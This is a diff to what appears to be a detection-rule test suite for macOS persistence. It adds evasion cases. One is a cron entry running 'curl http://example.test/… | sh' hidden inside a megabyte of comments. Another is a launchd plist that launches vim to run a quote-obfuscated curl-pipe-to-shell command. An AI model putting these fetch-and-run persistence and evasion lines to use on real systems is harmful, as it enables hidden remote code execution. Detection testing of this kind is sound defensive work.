@@ -18,6 +18,12 @@ const plistMark = ({ plist }: Attacker) => [plist];
 const second = ({ label }: Attacker) => `/opt/${label}-second`;
 const secondMark = ({ label }: Attacker) => [`${label}-second`];
 
+/** Whether the rule gave an alert that says the attacker's label. */
+function isFiredBy(ruleId: string): NonNullable<Evasion['fired']> {
+  return ({ alerts }, { label }) =>
+    alerts.some((alert) => alert.rule_id === ruleId && JSON.stringify(alert.doc).includes(label));
+}
+
 /** Further forms of the numbered evasions of the file step. */
 export const variants: readonly Evasion[] = [
   {
@@ -201,6 +207,37 @@ export const variants: readonly Evasion[] = [
       mkdirSync(attacker.host('/Library/DirectoryServices'), { recursive: true });
       symlinkSync(attacker.host(elsewhere), attacker.host('/Library/DirectoryServices/PlugIns'));
     },
+    expected: both,
+  },
+  {
+    number: 217,
+    name: 'a table of cron with a megabyte of comments before and behind the line',
+    play(attacker) {
+      const comments = '# nothing to see here\n'.repeat(50_000);
+      const line = `* * * * * curl http://example.test/${attacker.label} | sh\n`;
+      quietly(attacker, `/private/var/at/tabs/${attacker.label}`, `${comments}${line}${comments}`);
+    },
+    fired: isFiredBy('5b1f6f0e-7a43-4d8e-9d0c-2f6f1e0c7b55'),
+    expected: both,
+  },
+  {
+    number: 218,
+    name: 'the list runs an editor, and the editor what fetches a script',
+    play: (attacker) =>
+      quietly(
+        attacker,
+        attacker.plist,
+        attacker.list(['/usr/bin/vim', '-c', ":!cu'r'l http://example.test/a | sh"]),
+      ),
+    fired: isFiredBy('3f301cee-b36c-4b3d-ae1e-d3096e113700'),
+    expected: both,
+  },
+  {
+    number: 219,
+    name: 'a load of a list that is not there',
+    play: (attacker) =>
+      attacker.launchctl(['load', attacker.host(`/Library/LaunchDaemons/${attacker.label}.none.plist`)]),
+    fired: isFiredBy('c2a1d9f4-68b3-4e0e-9a57-3d51c0b2e7a9'),
     expected: both,
   },
 ];
